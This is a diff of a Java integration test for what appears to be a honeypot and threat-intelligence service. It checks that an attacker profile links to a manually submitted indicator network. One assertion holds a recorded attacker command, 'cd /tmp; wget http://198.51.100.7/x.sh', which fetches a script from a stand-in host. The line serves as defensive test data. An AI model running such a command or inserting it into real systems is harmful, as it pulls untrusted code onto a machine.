@@ -117,6 +117,13 @@ class AttackerProfileTest extends IntegrationTest {
         .andExpect(jsonPath("$.accepted").value(records.size()));
 
     String analyst = token("analyst");
+    mvc.perform(
+            postJson(
+                analyst,
+                "/api/v1/intel/iocs",
+                "{\"value\": \"45.141.84.0/24\", \"confidence\": 70, \"severity\": \"high\","
+                    + " \"tags\": [\"scanner\"]}"))
+        .andExpect(status().isCreated());
     JsonNode p = null;
     long deadline = System.currentTimeMillis() + 10_000;
     while (System.currentTimeMillis() < deadline) {
@@ -146,17 +153,21 @@ class AttackerProfileTest extends IntegrationTest {
         .isEqualTo("cd /tmp; wget http://198.51.100.7/x.sh");
     assertThat(p.get("sensors").get(0).get("sensor_id").asString()).isEqualTo("hp-01");
     assertThat(p.get("sensors").get(0).get("count").asLong()).isEqualTo(8);
-    assertThat(p.get("event_types").get(0).get("event_type").asString())
-        .isEqualTo("login_attempt");
+    assertThat(p.get("event_types").get(0).get("event_type").asString()).isEqualTo("login_attempt");
     assertThat(p.get("event_types").get(0).get("count").asLong()).isEqualTo(6);
     assertThat(p.get("recent_events")).hasSize(8);
     assertThat(p.get("recent_events").get(0).get("event_type").asString()).isEqualTo("connection");
-    // the honeypot recorded the attacker as an indicator
-    assertThat(p.get("ioc").get("hits").get(0).get("source").asString()).isEqualTo("honeypot");
+    // threat intelligence knows its network
+    JsonNode hit = p.get("ioc").get("hits").get(0);
+    assertThat(hit.get("value").asString()).isEqualTo("45.141.84.0/24");
+    assertThat(hit.get("source").asString()).isEqualTo("manual");
+    assertThat(hit.get("confidence").asInt()).isEqualTo(70);
+    assertThat(hit.get("tags").get(0).asString()).isEqualTo("scanner");
 
     JsonNode other = profile(analyst, "198.51.100.99");
     assertThat(other.get("events").asLong()).isEqualTo(1);
     assertThat(other.get("credentials").get(0).get("username").asString()).isEqualTo("other");
+    assertThat(other.get("ioc").isNull()).isTrue();
   }
 
   @Test
